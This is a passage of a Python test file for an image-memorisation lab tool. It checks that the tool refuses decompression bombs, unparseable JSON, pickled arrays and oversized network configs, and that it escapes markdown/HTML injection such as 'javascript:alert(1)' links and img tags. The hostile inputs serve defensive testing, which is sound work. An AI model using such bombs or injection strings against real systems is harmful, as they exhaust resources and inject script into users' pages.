    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                   for cell in next(csv.reader(io.StringIO(out.getvalue()))))


def _bomb(path: Path, rows: int, caption: str, **columns) -> None:
    """A parquet table whose caption column repeats ``caption`` ``rows`` times, dictionary-encoded and compressed
    (a few kilobytes on disk), with no Arrow schema kept, so a reader decodes it back to plain strings."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    repeated = pa.DictionaryArray.from_arrays(pa.array(np.zeros(rows, np.int32)), pa.array([caption]))
    pq.write_table(pa.table({**{k: pa.array(v) for k, v in columns.items()}, "caption": repeated}), path,
                   compression="zstd", store_schema=False)


def test_a_table_that_decodes_to_gigabytes_is_refused_before_it_is_decoded(tmp_path):
    """A parquet listing of a few kilobytes whose 400,000 rows repeat one 1,000-character caption decodes to 400 MB
    (pandas reads it whole); memlab decodes it first in a child process and refuses it past 100 times the file plus
    256 MiB, naming the file. The same listing with 1,000 rows reads as before."""
    from memlab.errors import MemlabError
    from memlab.tables import read_table

    _bomb(tmp_path / "listing.parquet", 400_000, "x" * 1000, url=[f"http://h/{i}" for i in range(400_000)])
    assert (tmp_path / "listing.parquet").stat().st_size < 2_000_000
    with pytest.raises(MemlabError, match="cannot read captions file .*listing.parquet: .*decompression bomb"):
        read_table(tmp_path / "listing.parquet", "captions file")
    _bomb(tmp_path / "small.parquet", 1000, "x" * 1000, url=[f"http://h/{i}" for i in range(1000)])
    assert read_table(tmp_path / "small.parquet", "captions file")["caption"].str.len().sum() == 1_000_000


def test_an_index_whose_item_table_decodes_to_gigabytes_is_one_error_line(tmp_path):
    """An index folder from elsewhere carries its item table; one whose 40 rows each repeat a 10 MB caption (400 MB
    decoded from a few kilobytes, checksums resealed) is refused at load, the first time and after the same
    process checked the good table (a check is remembered by the file's inode, size and time, not its name)."""
    import pyarrow.parquet as pq

    from memlab.errors import IndexMismatchError
    from memlab.index import TrainingIndex

    _, manifest = _ivf_index(tmp_path / "idx", "Flat")
    items = tmp_path / "idx" / "items.parquet"
    good = items.read_bytes()
    assert len(TrainingIndex.load(tmp_path / "idx").items) == 40
    table = pq.read_table(items).to_pydict()
    _bomb(items, 40, "x" * 10_000_000, **{k: v for k, v in table.items() if k != "caption"})
    _reseal(tmp_path / "idx", manifest)
    with pytest.raises(IndexMismatchError, match="cannot read item table .*items.parquet: .*decompression bomb"):
        TrainingIndex.load(tmp_path / "idx")
    one_error(run_cli("memlab", "match", "--index", str(tmp_path / "idx"), "--images", str(tmp_path / "q.png")),
              "items.parquet", "decompression bomb")
    items.write_bytes(good)
    _reseal(tmp_path / "idx", manifest)
    assert len(TrainingIndex.load(tmp_path / "idx").items) == 40


def test_the_neighbour_lists_an_addition_extends_are_checked_first(tmp_path):
    """An index built from embeddings keeps each queried row's neighbours (``{name}.knn.npz``) for
    ``index_builder add`` to extend; the index may come from elsewhere. A compressed member (``np.savez`` stores
    its arrays; a compressed one can decode to far more than the file), rows outside the base or out of order,
    neighbours naming rows outside it and lists of another width are each one error line naming the file (checksums
    resealed); the index as built is extended as before."""
    import zipfile

    from index_builder.build import main as build
    from memlab.ondisk import write_embeddings
    from tests.helpers import clustered

    x = clustered(900, 32, 20, seed=3)
    meta = pd.DataFrame({"id": np.arange(900), "caption": [f"item {i}" for i in range(900)]})
    a = write_embeddings(tmp_path / "a", x[:600], meta[:600], part_rows=300)
    b = write_embeddings(tmp_path / "b", x[600:], meta[600:], part_rows=300)
    assert build(["--embeddings", str(a), "--descriptor", "emb32", "--out", str(tmp_path / "idx")]) == 0
    knn = tmp_path / "idx" / "emb32.knn.npz"
    manifest = json.loads((tmp_path / "idx" / "manifest.json").read_text())
    with np.load(knn) as z:
        good = {k: z[k] for k in z.files}
    shutil.copytree(tmp_path / "idx", tmp_path / "clean")

    def changed(write, *words):
        write()
        _reseal(tmp_path / "idx", manifest)
        one_error(run_cli("index_builder", "add", "--index", str(tmp_path / "idx"), "--embeddings", str(b)),
                  "emb32.knn.npz", *words)

    changed(lambda: np.savez_compressed(knn, **good), "compressed")
    changed(lambda: np.savez(knn, **{**good, "rows": good["rows"] + 1}), "not distinct base rows")
    changed(lambda: np.savez(knn, **{**good, "rows": good["rows"][::-1].copy()}), "in increasing order")
    ids = good["ids"].copy()
    ids[5, 0] = 600
    changed(lambda: np.savez(knn, **{**good, "ids": ids}), "ids name rows outside 0 to 599")
    changed(lambda: np.savez(knn, **{**good, "scores": good["scores"][:, :-1].copy()}), "scores are")
    changed(lambda: zipfile.ZipFile(knn, "w").close(), "not the arrays")
    r = run_cli("index_builder", "add", "--index", str(tmp_path / "clean"), "--embeddings", str(b))
    assert r.returncode == 0, r.stderr[-1500:]
    assert json.loads((tmp_path / "clean" / "manifest.json").read_text())["item_count"] == 900


def test_a_world_names_its_probes_and_card_as_the_files_memlab_writes(tiny_world, tmp_path):
    """pandas decompresses a CSV whose name ends in .gz (.bz2, .xz, .zip, .zst) whole: a world.json from elsewhere
    naming ``probes.csv.gz`` (here 100,000 probe rows from a 6 KB file) handed the app a decompression bomb. A
    world's probes must be a .csv and its card a .json, refused at load naming the field; the world as written
    loads."""
    import gzip

    from memlab.errors import MemlabError
    from memlab.world import World, seal_world

    world = tmp_path / "world"
    shutil.copytree(tiny_world, world)
    m = json.loads((world / "world.json").read_text())
    rows = b"prompt,group\n" + b"a red star on blue,full\n" * 100_000
    (world / "probes.csv.gz").write_bytes(gzip.compress(rows, 9))
    (world / "card.json.gz").write_bytes(gzip.compress(b"{}"))
    assert (world / "probes.csv.gz").stat().st_size < 20_000
    for key, rel in (("probes", "probes.csv.gz"), ("card", "card.json.gz")):
        (world / "world.json").write_text(json.dumps({**m, key: rel}))
        seal_world(world)  # sealed as its author would
        with pytest.raises(MemlabError, match=f"world.json: {key} must name a .{rel.split('.')[1]} file"):
            World.load(world)
    (world / "world.json").write_text(json.dumps(m))
    seal_world(world)
    assert World.load(world).manifest.get("probes") == m.get("probes")  # the world as written loads


def test_an_index_checks_its_item_table_and_caption_words_in_one_child(tmp_path, monkeypatch):
    """At load an index's item table and its caption words' vocabulary (both parquet, both from wherever the index
    came from) are decoded in one child process, not one each; a vocabulary that decodes to gigabytes (40 words of
    10 MB, resealed) is refused naming it."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    from memlab import childcheck
    from memlab.errors import IndexMismatchError
    from memlab.index import TrainingIndex

    _, manifest = _ivf_index(tmp_path / "idx", "Flat")
    vocab = tmp_path / "idx" / manifest["words"]["files"]["vocab"]
    runs = []
    real = childcheck.run_capped
    monkeypatch.setattr(childcheck, "run_capped", lambda *a: runs.append(a) or real(*a))
    childcheck._checked.clear()  # as a process that did not build it
    TrainingIndex.load(tmp_path / "idx").close()
    assert len(runs) == 1 and {str(tmp_path / "idx" / "items.parquet"), str(vocab)} <= set(map(str, runs[0][1]))
    repeated = pa.DictionaryArray.from_arrays(pa.array(np.zeros(40, np.int32)), pa.array(["w" * 10_000_000]))
    pq.write_table(pa.table({"word": repeated}), vocab, compression="zstd", store_schema=False)
    _reseal(tmp_path / "idx", manifest)
    with pytest.raises(IndexMismatchError, match="cannot read caption words .*: .*decompression bomb"):
        TrainingIndex.load(tmp_path / "idx")


# JSON Python's parser refuses with more than JSONDecodeError: nested past its recursion limit (RecursionError),
# an integer of over 4,300 digits (ValueError) and bytes that are not UTF-8 (UnicodeDecodeError)
UNPARSEABLE_JSON = {"nested": b"[" * 100_000 + b"]" * 100_000, "long int": b'{"a": ' + b"1" * 5_000 + b"}",
                    "not UTF-8": b'{"a": "\xff\xfe"}'}


def test_json_python_cannot_parse_is_one_error_naming_the_file(tiny_world, tmp_path):
    """A world's world.json, card and keyword views, an index's manifest, a pipeline's model_index.json and a
    JSON-lines prompt list from elsewhere: each body above is one MemlabError naming the file (before, a
    RecursionError, ValueError or UnicodeDecodeError reached the user as a traceback, and the app did not
    start). A card of the wrong shape is refused naming its field where the app reads it, and its report says
    it cannot be shown rather than stopping the About tab."""
    from memlab.errors import IndexMismatchError, MemlabError
    from memlab.index import TrainingIndex
    from memlab.pipeload import load_pipeline
    from memlab.prompts import read_prompt_list
    from memlab.service import Lab
    from memlab.validate import check_pipeline
    from memlab.world import World, seal_world

    def world(name, rel=None, data=None, card=None):
        w = tmp_path / name
        shutil.copytree(tiny_world, w)
        m = json.loads((w / "world.json").read_text())
        if card is not None:
            (w / "card.json").write_bytes(card)
            m["card"] = "card.json"
            (w / "world.json").write_text(json.dumps(m))
        if rel:
            (w / rel).parent.mkdir(exist_ok=True)
            (w / rel).write_bytes(data)
        if rel != "world.json":
            seal_world(w)  # sealed as its author would
        return w

    for k, (kind, body) in enumerate(UNPARSEABLE_JSON.items()):
        with pytest.raises(MemlabError, match=r"world\.json is not valid JSON"):
            World.load(world(f"w{k}", "world.json", body))
        with pytest.raises(IndexMismatchError, match=r"manifest\.json is not valid JSON"):
            TrainingIndex.load(world(f"m{k}", "index/manifest.json", body) / "index")
        with pytest.raises(MemlabError, match=r"model_index\.json is not valid JSON"):
            check_pipeline(world(f"p{k}", "model/model_index.json", body) / "model")
        with pytest.raises(MemlabError, match="cannot load the pipeline"):  # a component's config, read by diffusers
            load_pipeline(world(f"u{k}", "model/unet/config.json", body) / "model", None)
        with pytest.raises(MemlabError, match=r"keywords/field\.json is not valid JSON"):
            Lab(World.load(world(f"v{k}", "keywords/field.json", body)), device="cpu")
        with pytest.raises(MemlabError, match=r"card\.json is not valid JSON"):
            Lab(World.load(world(f"c{k}", card=body)), device="cpu").card()
        lines = tmp_path / f"prompts{k}.jsonl"
        lines.write_bytes(b'{"caption": "a red ball"}\n' + body + b"\n")
        with pytest.raises(MemlabError, match=r"prompts\d\.jsonl" + (", line 2" if kind != "not UTF-8" else "")):
            read_prompt_list(lines)

    with pytest.raises(MemlabError, match="cannot load the pipeline"):  # a config transformers gets as keywords
        load_pipeline(world("te", "model/text_encoder/config.json", b"[1, 2]") / "model", None)
    weights = (tiny_world / "model" / "text_encoder" / "model.safetensors").read_bytes()
    with pytest.raises(MemlabError, match="cannot load the pipeline"):  # weights transformers reads itself, cut short
        load_pipeline(world("tw", "model/text_encoder/model.safetensors", weights[:len(weights) // 2]) / "model", None)
    with pytest.raises(MemlabError, match=r"card\.json: measured\.seconds_8_seeds must be a finite number"):
        Lab(World.load(world("secs", card=b'{"measured": {"seconds_8_seeds": "fast"}}')), device="cpu").card()
    with pytest.raises(MemlabError, match=r"card\.json: the card must be an object"):
        Lab(World.load(world("list", card=b"[1, 2]")), device="cpu").card()
    from memlab.app.cardview import world_card_markdown

    text = world_card_markdown(Lab(World.load(world("groups", card=b'{"measured": {"groups": 5}}')), device="cpu"))
    assert "not in the form this memlab writes" in text
    # the app refuses to start on a card it cannot parse with one line naming it (it read the card after starting)
    r = subprocess.run([sys.executable, str(ROOT / "app.py"), "--world", str(tmp_path / "c0"), "--port", "1"],
                       cwd=ROOT, env=ENV, capture_output=True, text=True, timeout=300)
    assert r.returncode != 0 and "Traceback" not in r.stderr, r.stderr[-1500:]
    assert r.stderr.strip().splitlines()[-1].startswith("error: ") and "card.json is not valid JSON" in r.stderr


def test_a_shard_or_a_request_whose_json_python_cannot_parse_is_handled():
    """A shard sample's ``.json`` that does not parse is metadata left out (its caption still read); a request
    body nested past Python's parser that names a remote file is refused with 400's message, and one whose
    ``meta`` is not an object is let through to Gradio rather than raising in the app's guard."""
    from memlab.app.serve import _request_problem
    from memlab.shards import sample_text

    for body in UNPARSEABLE_JSON.values():
        assert sample_text({"json": body, "txt": b"a red ball"}) == ({}, "a red ball")
    deep = b'{"x": "FileData http", "y": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    assert "nested too deeply" in _request_problem(deep)
    assert _request_problem(json.dumps({"meta": [1], "path": "http://127.0.0.1/x.png", "n": "FileData"}).encode()) \
        is None
    assert "does not fetch" in _request_problem(json.dumps(
        {"data": [{"meta": {"_type": "gradio.FileData"}, "path": "http://127.0.0.1/x.png"}]}).encode())


def test_an_index_whose_vectors_or_backgrounds_do_not_read_is_one_error_at_load(tiny_world, tmp_path):
    """Resealed by their author, an index's arrays are refused at load naming the file: vectors holding a NaN row
    (before: loaded, and a query met "the index found no item"), and a background that is not a readable array of
    one score per row (before: loaded, then "memlab hit an unexpected ValueError ... this is a bug" at the first
    match that read it). The index as built loads."""
    from numpy.lib import format as npformat

    from memlab.errors import IndexMismatchError
    from memlab.index import TrainingIndex

    def index(name, rel, edit):
        w = tmp_path / name
        shutil.copytree(tiny_world / "index", w)
        a = np.load(w / rel)
        edit(w / rel, a)
        _reseal(w, json.loads((w / "manifest.json").read_text()))
        return w

    def nan_row(p, a):
        a[3, 0] = np.nan
        np.save(p, a)

    def declares_more(p, a):  # a header that declares ten times the rows the file holds
        with open(p, "wb") as f:
            npformat.write_array_header_1_0(f, {"descr": a.dtype.str, "fortran_order": False,
                                                "shape": (len(a) * 10,) + a.shape[1:]})
            f.write(a.tobytes())

    def objects(p, a):
        np.save(p, np.array([{"a": 1}] * len(a), dtype=object), allow_pickle=True)

    m = json.loads((tiny_world / "index" / "manifest.json").read_text())
    files = m["descriptors"]["pixel"]["files"]
    cases = [(files["vectors"], nan_row, rf"{files['vectors']}, row 3: not a finite vector")]
    for key in ("background", "background_distinct"):
        cases += [(files[key], declares_more, rf"cannot read .*{files[key]} as a \.npy array"),
                  (files[key], objects, rf"cannot read .*{files[key]} as a \.npy array"),
                  (files[key], lambda p, a: np.save(p, a[:, None]), rf"{files[key]} must hold one score per")]
    for i, (rel, edit, said) in enumerate(cases):
        with pytest.raises(IndexMismatchError, match=said):
            TrainingIndex.load(index(f"i{i}", rel, edit))
    assert len(TrainingIndex.load(tiny_world / "index").items) == m["item_count"]


@pytest.mark.parametrize("dtype", [np.float16, np.float32, np.float64])
def test_the_finite_check_reads_the_exponent_bits_of_every_float_width(dtype):
    """``_finite_rows`` reads NaN and infinity from the exponent bits: each is found in its row, and the largest,
    the smallest and negative zero pass."""
    from memlab.errors import IndexMismatchError
    from memlab.index import _finite_rows

    a = np.ones((10, 4), dtype)
    a[5, 1], a[6, 0], a[4, 0], a[3, 3] = np.finfo(dtype).max, np.finfo(dtype).tiny, -0.0, np.finfo(dtype).min
    _finite_rows(a, Path("index/v.npy"))
    for bad in (np.nan, np.inf, -np.inf):
        b = a.copy()
        b[7, 2] = bad
        with pytest.raises(IndexMismatchError, match="v.npy, row 7: not a finite vector"):
            _finite_rows(b, Path("index/v.npy"), block=3)


def test_a_small_networks_weights_or_config_from_elsewhere_is_one_error_before_it_is_built(tmp_path):
    """A world's alignment and hidden-object classifiers and NeMo statistics, and a memlab-copy folder: a damaged
    safetensors file, one of other tensors, and a config asking for a network the weights do not fit (here
    100,000 channels a layer: before, memlab-copy built it first, 9 x 10^10 weights a convolution) are each one
    MemlabError naming the file, raised before the network is built (before: safetensors' SafetensorError and
    torch's RuntimeError reached the user as tracebacks). The folders as shipped load."""
    from safetensors.torch import save_file
    import torch

    from memlab.alignment import SceneAlignment
    from memlab.copynet import CopyNet
    from memlab.errors import MemlabError
    from memlab.nemo import NeMoStats
    from memlab.objects import ObjectClassifier

    def truncated(p):
        p.write_bytes(p.read_bytes()[:2000])

    def other_tensors(p):
        save_file({"x": torch.zeros(3)}, str(p))

    def config(**values):
        def edit(p):
            c = p.parent / "config.json"
            c.write_text(json.dumps({**json.loads(c.read_text()), **values}))
        return edit

    world = ROOT / "assets" / "world"
    shipped = [(world / "alignment", "model.safetensors", SceneAlignment.load, config(width=100_000)),
               (world / "objects", "model.safetensors", ObjectClassifier.load, config(width=100_000)),
               (world / "nemo", "statistics.safetensors", NeMoStats.load, None),
               (ROOT / "assets" / "memlab-copy", "model.safetensors", CopyNet.from_pretrained,
                config(widths=[100_000] * 5))]
    for folder, weights, load, huge in shipped:
        load(folder)
        for k, (edit, said) in enumerate([(truncated, "is not a readable safetensors file"),
                                          (other_tensors, "does not fit|must hold mean_0"),
                                          (huge, "does not fit")]):
            if edit is None:
                continue
            w = tmp_path / f"{folder.name}{k}"
            shutil.copytree(folder, w)
            edit(w / weights)
            with pytest.raises(MemlabError, match=said):
                load(w)


def test_a_worlds_probes_are_read_as_tables_are_and_checked_for_the_columns_the_app_uses(tiny_world, tmp_path):
    """A world's ``probes.csv`` from elsewhere: a row of more fields than the header, bytes that are not UTF-8, no
    group (or label) column, a template column or a published figure of words: each one MemlabError naming the
    file (before: pandas' own errors, a KeyError when the page grouped the examples, a ValueError when a probe's
    template was read or its published figure formatted).
    Its training ids stay text ("007" is not 7)."""
    from memlab.errors import MemlabError
    from memlab.service import Lab
    from memlab.world import World, seal_world

    def lab(name, text: bytes):
        w = tmp_path / name
        shutil.copytree(tiny_world, w)
        (w / "probes.csv").write_bytes(text)
        (w / "world.json").write_text(json.dumps({**json.loads((w / "world.json").read_text()), "probes": "probes.csv"}))
        seal_world(w)
        return Lab(World.load(w), device="cpu")

    for name, text, said in [("extra", b"prompt,group\na red ball,unique\na blue, cube,unique\n", "line 3"),
                             ("utf", b"prompt,group\na red \xff ball,unique\n", "cannot read the world's probes"),
                             ("nogroup", b"prompt,kind\na red ball,unique\n", "must include prompt and group"),
                             ("template", b"prompt,group,template\na red ball,template,frame\n", "template must hold"),
                             ("published", b"prompt,label,group,published_mean_sscd\na red ball,verbatim,v,high\n",
                              "published_mean_sscd must hold numbers")]:
        with pytest.raises(MemlabError, match=said):
            lab(name, text).probes()
    good = lab("good", b"prompt,group,training_id\na red ball,unique,007\n").probes()
    assert list(good["training_id"]) == ["007"]


def test_an_image_folder_outside_the_world_serves_the_training_images_it_names_alone(tiny_world, tmp_path):
    """An index's manifest may name its image folder by an absolute path (``index_builder --images DIR`` without
    ``--copy-images``), so a world from elsewhere can name any folder (``/``, a home). The app's file route then
    served every picture under it (before: the other pictures here got 200); now the item table's images alone,
    and the pictures the app shows (copied into Gradio's cache) still reach the page."""
    import httpx
    from gradio_client import Client, handle_file

    from memlab.app import build_app, launch
    from memlab.service import Lab
    from memlab.world import World, seal_world
    from tests.conftest import free_port

    w, outside = tmp_path / "world", tmp_path / "pictures"
    shutil.copytree(tiny_world, w)
    shutil.move(w / "index" / "images", outside)
    m = json.loads((w / "index" / "manifest.json").read_text())
    m["image_root"] = str(outside)
    _reseal(w / "index", m)
    seal_world(w)
    synthetic_images(1, size=16)[0].save(outside / "private.png")
    (outside / "holiday").mkdir()
    synthetic_images(1, size=16)[0].save(outside / "holiday" / "beach.jpg")
    lab = Lab(World.load(w), device="cpu")
    demo = build_app(lab)
    port = free_port()
    launch(demo, lab, port=port, prevent_thread_lock=True, quiet=True)
    try:
        base = f"http://127.0.0.1:{port}/"
        image = outside / str(lab.index.items["file"].iloc[0])
        assert httpx.get(f"{base}gradio_api/file={image}", timeout=10).status_code == 200
        for f in (outside / "private.png", outside / "holiday" / "beach.jpg"):
            assert httpx.get(f"{base}gradio_api/file={f}", timeout=10).status_code == 403, f
        q = tmp_path / "q.png"
        Image.open(image).save(q)
        md, gallery, _ = Client(base, verbose=False).predict(handle_file(str(q)), 3, None, api_name="/match_image")
        assert "Top-1 score" in md and len(gallery) == 4  # the query's pair and its 3 matches, fetched from the app
    finally:
        demo.close()


def test_text_from_a_world_or_a_training_set_is_shown_as_written_in_markdown():
    """``literal`` escapes what markdown and HTML read inside a line, so a caption, a prompt or a world's name
    renders as written (a CommonMark renderer with HTML on, as Gradio's is): no image, link, emphasis, HTML or
    table cell comes of it; ``code`` keeps a backtick from closing its span."""
    from markdown_it import MarkdownIt

    from memlab.app.views import code, literal

    md = MarkdownIt("commonmark", {"html": True}).enable("table")
    hostile = ("a red ball ![t](http://127.0.0.1:9/t.png) <img src='http://127.0.0.1:9/r.png'> **bold** _it_ "
               "[link](javascript:alert(1)) `tick` &amp; a | b \\\\ ~x~")
    out = md.render("x " + literal(hostile))
    for tag in ("<img", "<a ", "<strong", "<em", "<code", "<table"):
        assert tag not in out, (tag, out)
    assert "![t](http://127.0.0.1:9/t.png) &lt;img src='http://127.0.0.1:9/r.png'&gt; **bold** _it_" in out
    cell = md.render("| a | b |\n|---|---|\n| " + literal("one | two") + " | 2 |")
    assert cell.count("<td>") == 2 and "one | two" in cell
    assert md.render(code("a ` b")).strip() == "<p><code>a ' b</code></p>"


def test_an_indexs_other_arrays_that_do_not_read_are_one_error_naming_the_file(tiny_world, tmp_path):
    """``load_array`` reads an index's .npy files (caption words, caption vectors, a two-sided rule's neighbours,
    backgrounds): a damaged file, objects or a header declaring more than the file holds is one error naming the
    file (before, numpy's ValueError reached the user as "memlab hit an unexpected ValueError ... this is a
    bug"). An index's caption words resealed damaged are refused at the app's check."""
    from numpy.lib import format as npformat

    from memlab.errors import IndexMismatchError, MemlabError
    from memlab.indexfiles import load_array
    from memlab.service import Lab
    from memlab.world import World, seal_world

    garbage, objects, declares = tmp_path / "g.npy", tmp_path / "o.npy", tmp_path / "d.npy"
    garbage.write_bytes(b"\x93NUMPY garbage" * 4)
    np.save(objects, np.array([{"a": 1}] * 3, dtype=object), allow_pickle=True)
    with open(declares, "wb") as f:
        npformat.write_array_header_1_0(f, {"descr": "<i8", "fortran_order": False, "shape": (1000,)})
        f.write(np.arange(10).tobytes())
    for f in (garbage, objects, declares):
        for mmap in (False, True):
            with pytest.raises(MemlabError, match=rf"cannot read .*{f.name} as a \.npy array") as e:
                load_array(f, mmap=mmap)
            assert "allow_pickle" not in str(e.value)  # numpy's advice to load objects unsafely is not passed on
    w = tmp_path / "world"
    shutil.copytree(tiny_world, w)
    m = json.loads((w / "index" / "manifest.json").read_text())
    rows = m["words"]["files"]["rows"]
    shutil.copy(garbage, w / "index" / rows)
    _reseal(w / "index", m)
    seal_world(w)
    with pytest.raises(IndexMismatchError, match=rf"cannot read .*{rows} as a \.npy array"):
        Lab(World.load(w), device="cpu").caption_words()


def test_text_from_elsewhere_in_a_chart_is_shown_as_written(server):
    """plotly reads ``<a href>``, ``<b>`` and ``<span style>`` inside a chart's text (in Chromium a raw ``<a href>``
    in a title became a link): a keyword, a token, an item id or a descriptor's name from a world elsewhere is
    escaped, so the chart shows the characters (plotly turns ``&lt;`` back into ``<``)."""
    from memlab.app.charts import attribution_chart, keyword_outputs, wrap

    lab = server[1]
    link = '<a href="https://example.com/">x</a>'
    view = {**lab.keyword_view("colour field"), "keyword": link}
    title = keyword_outputs(lab, view)[1].layout.title.text
    assert "<a" not in title and '&lt;a href="https://example.com/"&gt;x&lt;/a&gt;' in title
    assert wrap(f"model {link}") == 'model &lt;a href="https://example.com/"&gt;x&lt;/a&gt;'
    assert wrap("a & b", size="sup") == "<sup>a &amp; b</sup>"  # memlab's own tags stay tags
    toks = [{"token": "<|startoftext|>", "position": 0, "attribution": 0.0},
            {"token": "<b>bold</b>", "position": 1, "attribution": 1.0},
            {"token": "<|endoftext|>", "position": 2, "attribution": 0.0}]
    bar = attribution_chart(toks).data[0]
    assert list(bar.x) == ["&lt;b&gt;bold&lt;/b&gt;·1"] and list(bar.hovertext) == ["&lt;b&gt;bold&lt;/b&gt;"]
